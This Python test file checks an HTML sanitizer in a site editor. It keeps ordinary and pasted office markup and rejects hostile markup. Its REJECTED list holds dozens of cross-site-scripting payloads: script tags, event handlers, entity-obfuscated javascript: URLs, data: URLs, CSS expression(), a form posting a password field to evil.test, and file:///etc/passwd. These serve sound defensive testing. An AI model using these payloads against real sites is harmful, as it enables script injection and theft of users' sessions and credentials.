"""What markup may contain, and that checking what was checked changes nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from site_editor.domain.html import MAX_LENGTH, check_html

ALLOWED = [
    '<section id="a" class="b" lang="fr" dir="rtl" aria-label="x" data-x="1"><h2>é &amp; 1 &lt; 2</h2></section>',
    '<a href="/en/shop">Shop</a><a href="mailto:a@b.test">Mail</a><a href="tel:+212600000000">Call</a>',
    '<img src="/uploads/atlas/x.webp" alt="A shirt" width="20" loading="lazy">',
    '<video src="/uploads/atlas/x.mp4" poster="/uploads/atlas/x.jpg" controls=""></video>',
    '<p style="color:red;">x</p>',
    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    '<souk-map latitude="33.5" longitude="-7.6"></souk-map>',
    '<details open=""><summary>Q</summary>A</details>',
    "{{ 7 * 7 }} {% include 'x' %} {# y #}",
    '<picture><source srcset="/uploads/a/b.avif 480w, /uploads/a/c.avif 960w" media="print"><img alt=""></picture>',
    '<a href="/uploads/a/b.webp" download="plan.webp">x</a><a href="sms:+2126">x</a><a href="geo:33.5,-7.6">x</a>',
    '<button type="button">x</button>',
    "<ruby>x<rp>(</rp><rt>y</rt><rp>)</rp></ruby>",
    "<p>onclick=alert(1) javascript:alert(1)</p>",
]
REJECTED = [
    ("<script>alert(1)</script>", "html-element"),
    ("<ScRiPt src=//evil.test></sCrIpT>", "html-element"),
    ("<style>@import '//evil.test'</style>", "html-element"),
    ("<link rel=stylesheet href=//evil.test>", "html-element"),
    ("<meta http-equiv=refresh content='0;url=//evil.test'>", "html-element"),
    ("<base href=//evil.test>", "html-element"),
    ("<iframe src=//evil.test></iframe>", "html-element"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "html-element"),
    ("<object data=//evil.test></object>", "html-element"),
    ("<embed src=//evil.test>", "html-element"),
    ("<form action=//evil.test><input name=password></form>", "html-element"),
    ("<button formaction='javascript:alert(1)'>x</button>", "html-attribute"),
    ("<font onclick=alert(1)>x</font>", "html-handler"),
    ("<o:p onload=alert(1)>x</o:p>", "html-handler"),
    ("<svg onload=alert(1)></svg>", "html-element"),
    ("<svg><use href=//evil.test#x></use></svg>", "html-element"),
    (
        "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
        "html-element",
    ),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "html-element"),
    ("<template><script>alert(1)</script></template>", "html-element"),
    ("<video src=//evil.test></video>", "html-url"),
    ("<video poster='https://evil.test/x.png'></video>", "html-url"),
    ("<audio src=/uploads/a/b.mp3></audio>", "html-element"),
    ("<audio><source onerror=alert(1)></audio>", "html-element"),
    ("<marquee onstart=alert(1)>x</marquee>", "html-element"),
    ("<dialog open>x</dialog>", "html-element"),
    ("<souk-unknown>x</souk-unknown>", "html-element"),
    ("<slot name=x></slot>", "html-element"),
    ("<p onclick=alert(1)>x</p>", "html-handler"),
    ("<p OnMouseOver='alert(1)'>x</p>", "html-handler"),
    ("<img src=/uploads/a/b.png onerror=alert(1)>", "html-handler"),
    ("<p/onclick=alert(1)>x</p>", "html-handler"),
    ("<a href='javascript:alert(1)'>x</a>", "html-url"),
    ("<a href='JaVaScRiPt:alert(1)'>x</a>", "html-url"),
    ("<a href=' javascript:alert(1)'>x</a>", "html-url"),
    ("<a href='java\nscript:alert(1)'>x</a>", "html-url"),
    ("<a href='java&Tab;script:alert(1)'>x</a>", "html-url"),
    ("<a href='&#106;avascript:alert(1)'>x</a>", "html-url"),
    ("<a href='&#x6A&#x61vascript:alert(1)'>x</a>", "html-url"),
    ("<a href='\x01javascript:alert(1)'>x</a>", "html-url"),
    ("<a href='vbscript:x'>x</a>", "html-url"),
    ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "html-url"),
    ("<a href='blob:x'>x</a>", "html-url"),
    ("<a href='file:///etc/passwd'>x</a>", "html-url"),
    ("<img src='//evil.test/x.png'>", "html-url"),
    ("<img src='https://evil.test/x.png'>", "html-url"),
    ("<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "html-url"),
    ("<img src='/uploads/a/../../auth/revoke'>", "html-url"),
    ("<img src='/auth/revoke'>", "html-url"),
    ("<img srcset='//evil.test 1x'>", "html-url"),
    ("<img srcset='/uploads/a/b.webp 1x, https://evil.test/x.png 2x'>", "html-url"),
    ("<img srcset='data:image/png;base64,AAAA 1x'>", "html-url"),
    ("<picture><source srcset='//evil.test/x'></picture>", "html-url"),
    ("<a href='/' srcset=//evil.test>x</a>", "html-attribute"),
    ("<font src=//evil.test></font><img src=//evil.test>", "html-url"),
    ("<a ping=//evil.test href=/>x</a>", "html-attribute"),
    ("<div xlink:href='javascript:alert(1)'>x</div>", "html-attribute"),
    ("<td background=//evil.test>x</td>", "html-attribute"),
    ("<div data-gjs-script='alert(1)'>x</div>", "html-attribute"),
    ("<div data-GJS-type=script>x</div>", "html-attribute"),
    ("<p style='position:fixed;inset:0'>x</p>", "css-position"),
    ("<p style='background:url(//evil.test)'>x</p>", "css-url"),
    ("<p style='width:expression(alert(1))'>x</p>", "css-function"),
    ("<p style='behavior:url(#x)'>x</p>", "css-property"),
    ("<p style='background:&#117;rl(//evil.test)'>x</p>", "css-url"),
]


@pytest.mark.parametrize("text", ALLOWED)
def test_ordinary_markup_is_kept(text):
    checked = check_html(text)
    assert checked.findings == []
    assert checked.html.replace(' rel="noopener noreferrer"', "") == text


# What programs write that people copy from: pieces of the kinds that Word, Excel, Google Docs, mails and pages have.
PASTED = [
    (
        "<p class=MsoNormal style='mso-margin-top-alt:auto;line-height:normal'><b>Tarifs<o:p></o:p></b></p>",
        '<p class="MsoNormal" style="mso-margin-top-alt:auto; line-height:normal;"><b>Tarifs</b></p>',
    ),
    ('<a name="_Toc1"></a><h2>Prix</h2>', '<a rel="noopener noreferrer"></a><h2>Prix</h2>'),
    ("<!--[if gte mso 9]><xml><o:x/></xml><![endif]--><p>a</p>", "<p>a</p>"),
    ("<p><![if !supportLists]><span>1.</span><![endif]>a</p>", "<p><span>1.</span>a</p>"),
    (
        "<table border=0 cellpadding=0 width=64><col width=64><tr height=20><td align=right x:num>12</td></tr></table>",
        "<table><colgroup><col></colgroup><tbody><tr><td>12</td></tr></tbody></table>",
    ),
    (
        '<google-sheets-html-origin><table><td data-sheets-value="1">a</td></table></google-sheets-html-origin>',
        '<table><tbody><tr><td data-sheets-value="1">a</td></tr></tbody></table>',
    ),
    (
        '<b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr"><span>a</span></p></b>',
        '<b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr"><span>a</span></p></b>',
    ),
    ('<font color="#ff0000" face="Arial" size=2>a</font><center>b</center>', "ab"),
    ("<p align=center bgcolor=red>a<br clear=all></p>", "<p>a<br></p>"),
    (
        "<div contenteditable autofocus is=souk-map slot=x nonce=x popover spellcheck=false>a</div>",
        "<div>a</div>",
    ),
    (
        "<html><head><title>Page</title></head><body bgcolor=red><p itemprop=name>a</p></body></html>",
        "<p>a</p>",
    ),
    ("<p style='color:red;*zoom:1;filter: ;=x'>a</p>", None),
    ("<button>a</button>", '<button type="button">a</button>'),
    ("<button type=submit>a</button>", '<button type="button">a</button>'),
    ("<strike>a</strike><big>b</big><nobr>c</nobr><st1:place w:st=on>d</st1:place>", "abcd"),
]


@pytest.mark.parametrize(("text", "html"), PASTED)
def test_what_programs_add_is_dropped_and_the_text_stays(text, html):
    checked = check_html(text)
    assert checked.findings == []
    assert html in (None, checked.html)
    assert check_html(checked.html).html == checked.html


@pytest.mark.asvs("1.2.2", "1.3.1", "1.3.4")
@pytest.mark.parametrize(("text", "code"), REJECTED)
def test_hostile_markup_is_rejected_and_nothing_is_kept(text, code):
    checked = check_html(text)
    assert checked.html == ""
    assert code in [finding.code for finding in checked.findings]


def test_findings_name_their_line():
    [finding] = check_html("<p>x</p>\n\n<p onclick=x>y</p>").findings
    assert (finding.line, finding.code) == (3, "html-handler")


def test_links_to_other_windows_do_not_hand_over_the_page():
    link = '<a href="https://a.test" target="_blank" rel="noopener noreferrer">x</a>'
    assert check_html('<a href="https://a.test" target=_blank rel=opener>x</a>').html == link
    assert check_html(link).html == link


def test_markup_that_is_not_closed_is_completed():
    assert check_html("<div><b>x").html == "<div><b>x</b></div>"


def test_text_is_limited():
    assert check_html("a" * (MAX_LENGTH + 1)).findings[0].code == "length"
    deep = check_html("<div>" * 5000)
    assert deep.findings == [] or deep.html == ""


PIECES = st.sampled_from(
    [
        *("<", ">", "</", "/>", "<p>", "</p>", "<div", "<b>", "<i>", "<table>", "<td>", "<a href=", "<img src="),
        *("<li>", "<ul>", "<h1>", "<souk-map>", "<script", "<style>", "<svg>", "<!--", "-->", "<![CDATA[", "]]>"),
        *(" ", "\n", "=", "'", '"', "`", "&", "&lt;", "&#x3c;", "&amp;lt;", "\0", "é", "x", "onclick", "style='"),
        *("color:red", "javascript:", "/uploads/a/b.png", "data-x", "<pre>", "<?x", "title=", "<tr>", "<br>", "</div>"),
    ]
)  # fmt: skip


@pytest.mark.asvs("1.3.1")
@given(st.lists(PIECES, max_size=25).map("".join))
def test_what_was_checked_stays_the_same_when_it_is_checked_again(text):
    once = check_html(text)
    if once.findings:
        return
    twice = check_html(once.html)
    assert (twice.findings, twice.html) == ([], once.html)


@pytest.mark.parametrize(
    ("attributes", "is_allowed"),
    [
        ('slides="1" width="100" height="800"', True),
        ('slides="10" width="1200" height="100"', True),
        ('slides="11"', False),
        ('slides="0"', False),
        ('width="99"', False),
        ('height="801"', False),
        ('height="-200"', False),
        ('height="2e2"', False),
    ],
)
def test_a_slider_has_its_bounds(attributes, is_allowed):
    findings = check_html(f"<souk-slider {attributes}></souk-slider>").findings
    assert bool(findings) != is_allowed
